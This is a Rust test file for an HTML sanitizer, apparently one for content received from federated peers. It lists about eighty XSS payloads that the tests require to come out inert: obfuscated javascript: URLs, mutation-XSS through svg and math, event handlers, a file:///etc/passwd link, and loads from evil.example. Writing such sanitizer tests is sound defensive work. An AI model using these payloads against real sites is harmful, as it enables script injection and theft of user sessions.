use proptest::prelude::*;

use super::{CLASSES, LINK_REL, MAX_INPUT_BYTES, TAGS, sanitize};

/// Attempts to run something, load something or leave the text's place on the page. Each must come out inert.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\u{c}type=module>import('x')</script>",
    "<p onclick=alert(1)>x</p>",
    "<a href='https://ok.example' onmouseover='alert(1)'>x</a>",
    "<a href=\"https://ok.example\"onfocus=alert(1) autofocus>x</a>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript&colon;alert(1)'>x</a>",
    "<a href='javascript&Tab;:alert(1)'>x</a>",
    "<a href='\u{1}javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='blob:https://ok.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/settings/delete'>x</a>",
    "<a href='?logout'>x</a>",
    "<a href='https://bank.example@evil.example/'>x</a>",
    "<a href='https://ok.example' target=_top ping=https://evil.example download>x</a>",
    "<a href='https://ok.example' rel='opener me'>x</a>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><annotation-xml encoding='text/html'><p onclick=alert(1)>x</annotation-xml></math>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'><embed src=x></object>",
    "<form action='https://evil.example'><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<span style='background:url(https://evil.example)'>x</span>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<video src=x onerror=alert(1)><source src=x></video>",
    "<audio autoplay src='https://evil.example/x.ogg'></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>x</body>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></p><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<select><option><style></option></select><script>alert(1)</script></style>",
    "<!--><script>alert(1)</script>-->",
    "<!-- x --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<p/onclick=alert(1)>x",
    "<p \"'`=<>onclick=alert(1)>x",
    "<p class='button danger is-admin'>x</p>",
    "<span class='mention&#9;modal'>x</span>",
    "<p id=csrf-token name=token data-action=delete>x</p>",
    "<p lang='\"><script>alert(1)</script>'>x</p>",
    "<p lang='en' xml:lang='x' dir=rtl slot=x is=x-y>x</p>",
    "<ol start='1;x' reversed><li value=9>x</ol>",
    "<table background=javascript:alert(1)><tr><td>x",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<del cite='javascript:alert(1)' datetime=x>x</del>",
    "<a href='https://ok.example/\"><script>alert(1)</script>'>x</a>",
    "<a href=\"https://ok.example/<h1 onclick=alert(1)>\">x</a>",
    "</div></body></html><script>alert(1)</script>",
    "<b><p></b><script>alert(1)</script></p>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<\u{0}script>alert(1)</script>",
    "\u{ff1c}script\u{ff1e}alert(1)",
    "<p>x&#xd&#13;\n<pre>\0\r\n\nx",
    "<h1 onclick=alert(1)>x</h1><h2 style=x>y</h2>",
];

/// Reads cleaned HTML tag by tag and fails on anything that is not listed.
fn assert_harmless(html: &str) {
    let mut rest = html;
    while let Some((_, tail)) = rest.split_once('<') {
        let mut quoted = false;
        let end = tail.find(|c| {
            quoted ^= c == '"';
            c == '>' && !quoted
        });
        let end = end.unwrap_or_else(|| panic!("a tag is not closed: {html}"));
        let (tag, after) = tail.split_at(end);
        assert_tag(tag, html);
        rest = after.strip_prefix('>').unwrap();
    }
    assert!(!rest.contains('>'), "{html}");
}

fn assert_tag(tag: &str, html: &str) {
    let (name, mut attributes) = tag
        .trim_start_matches('/')
        .split_once(' ')
        .unwrap_or((tag.trim_start_matches('/'), ""));
    assert!(
        TAGS.contains(&name) && !["h1", "h2"].contains(&name),
        "<{name}> in {html}"
    );
    if tag.starts_with("a ") || tag == "a" {
        assert!(attributes.contains("rel=\""), "{html}");
    }
    while !attributes.is_empty() {
        let (attribute, tail) = attributes
            .split_once("=\"")
            .unwrap_or_else(|| panic!("{html}"));
        let (value, after) = tail.split_once('"').unwrap_or_else(|| panic!("{html}"));
        let good = match (name, attribute) {
            ("a", "href") => ["https://", "http://", "mailto:"]
                .iter()
                .any(|scheme| value.to_lowercase().trim_start().starts_with(scheme)),
            ("a", "rel") => value == LINK_REL,
            ("a" | "span" | "p", "class") => value.split(' ').all(|class| CLASSES.contains(&class)),
            ("ol", "start") => value.parse::<u16>().is_ok(),
            (_, "lang") => value.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'),
            _ => false,
        };
        assert!(good, "{attribute}=\"{value}\" in {html}");
        attributes = after.trim_start();
    }
}

#[test]
fn every_known_attempt_comes_out_inert() {
    assert!(VECTORS.len() >= 40);
    for vector in VECTORS {
        let clean = sanitize(vector);
        assert_harmless(&clean);
        assert_eq!(sanitize(&clean), clean, "{vector}");
        let inside = sanitize(&format!("<p>before {vector} after</p>"));
        assert_harmless(&inside);
        assert!(inside.contains("before"), "{vector}");
    }
}

#[test]
fn what_peers_send_survives() {
    let mention = "<p><span class=\"h-card\"><a href=\"https://a.example/@ada\" class=\"u-url mention\" rel=\"nofollow noopener ugc\">@<span>ada</span></a></span> hello</p>";
    assert_eq!(sanitize(mention), mention);
    let rich = "<h3>Agenda</h3><ul><li><strong>one</strong></li><li><em>two</em></li></ul><ol start=\"3\"><li>x</li></ol><blockquote><p>q<br>r</p></blockquote><pre><code>a &lt; b</code></pre><ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby><p lang=\"de\"><del>alt</del> <s>s</s> <u>u</u> <b>b</b> <i>i</i></p><hr>";
    assert_eq!(sanitize(rich), rich);
}

#[test]
fn our_page_keeps_the_first_two_heading_levels() {
    assert_eq!(
        sanitize("<h1>a</h1><h2 lang=\"de\">b</h2><h4>c</h4>"),
        "<h3>a</h3><h3 lang=\"de\">b</h3><h4>c</h4>"
    );
}

#[test]
fn links_say_that_they_are_from_elsewhere() {
    assert_eq!(
        sanitize("<a href='https://x.example/a?b=1&amp;c=2' rel='me'>x</a>"),
        "<a href=\"https://x.example/a?b=1&amp;c=2\" rel=\"nofollow noopener ugc\">x</a>"
    );
    assert_eq!(
        sanitize("<a href='mailto:ada@x.example'>x</a>"),
        "<a href=\"mailto:ada@x.example\" rel=\"nofollow noopener ugc\">x</a>"
    );
    assert_eq!(
        sanitize("<a href='/people/ada'>x</a>"),
        "<a rel=\"nofollow noopener ugc\">x</a>"
    );
}

#[test]
fn text_without_markup_is_not_parsed_and_not_changed() {
    assert_eq!(
        sanitize("Zoë said: \"it's fine\""),
        "Zoë said: \"it's fine\""
    );
    assert_eq!(sanitize("1 > 0 & 2"), "1 &gt; 0 &amp; 2");
}

#[test]
fn huge_and_absurd_input_is_cut() {
    let long = "é".repeat(MAX_INPUT_BYTES);
    assert!(sanitize(&long).len() <= MAX_INPUT_BYTES);
    for piece in ["<span><p>", "&", "<a href=x>"] {
        let clean = sanitize(&piece.repeat(10_000));
        assert_harmless(&clean);
        assert!(clean.len() < 200_000, "{piece}");
    }
}

proptest! {
    #[test]
    fn cleaned_html_is_harmless_and_stays_as_it_is(html in hostile()) {
        let clean = sanitize(&html);
        assert_harmless(&clean);
        prop_assert_eq!(sanitize(&clean), clean);
    }
}

/// Pieces of markup in any order, so that they open, close and quote each other.
fn hostile() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        prop::sample::select(VECTORS).prop_map(str::to_owned),
        "<[/!?]?(p|a|b|h1|svg|math|style|script|table|td|select|template|title|li|pre|mtext|form|frameset|noscript)[ />]",
        " ?(href|style|onload|class|rel|xlink:href|lang)=[\"']?(javascript:|https://x\\.example/|mention|en|//)?[\"'> ]?",
        "&(#x?[0-9a-f]{1,6}|lt|gt|amp|quot|colon|Tab|NewLine|nbsp)?;?",
        "[<>\"'=/ \\x00\\r\\n\u{a0}-]{1,4}",
        "\\PC{0,6}",
    ];
    prop::collection::vec(piece, 0..12).prop_map(|pieces| pieces.concat())
}
